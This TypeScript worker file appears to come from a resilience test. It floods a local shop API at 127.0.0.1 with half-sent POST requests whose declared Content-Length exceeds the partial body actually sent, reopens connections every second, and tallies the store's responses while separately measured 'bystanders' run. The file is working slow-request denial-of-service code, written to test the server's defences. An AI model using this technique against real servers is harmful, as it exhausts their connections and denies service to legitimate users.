import { connect, type Socket } from 'node:net'
import { parentPort, workerData } from 'node:worker_threads'
import type { HalfSent, Place } from './half-senders.ts'

// Runs in a thread of its own, so that the cost of the attack does not slow down the bystanders, who are
// measured.

const { port, places, count } = workerData as { port: number; places: Place[]; count: number }
const openAgainEvery = 1_000
const body = '{"customerId":"a","cartItems":[{"productId":"'
const result: HalfSent = { opened: 0, answers: {} }

const open = (sockets: Set<Socket>, { localAddress, headers = '' }: Place) => {
  result.opened += 1
  let answer = ''
  const socket = connect({ port, host: '127.0.0.1', localAddress })
  sockets.add(socket)
  socket.on('error', () => {}) // the store ends them, as expected
  socket.on('data', (chunk) => {
    answer += chunk
  })
  socket.once('close', () => {
    sockets.delete(socket)
    const status = answer.slice(9, 12) || 'none'
    result.answers[status] = (result.answers[status] ?? 0) + 1
  })
  socket.write(
    `POST /api/orders HTTP/1.1\r\nHost: shop\r\n${headers}Content-Type: application/json\r\nContent-Length: ${2 * body.length}\r\n\r\n${body}`,
  )
}

const all = places.map((place) => ({ place, sockets: new Set<Socket>() }))
const fill = () => {
  for (const { place, sockets } of all) while (sockets.size < count) open(sockets, place)
}
fill()
const timer = setInterval(fill, openAgainEvery)

parentPort?.once('message', () => {
  clearInterval(timer)
  parentPort?.postMessage(result)
  for (const { sockets } of all) for (const socket of sockets) socket.destroy()
})
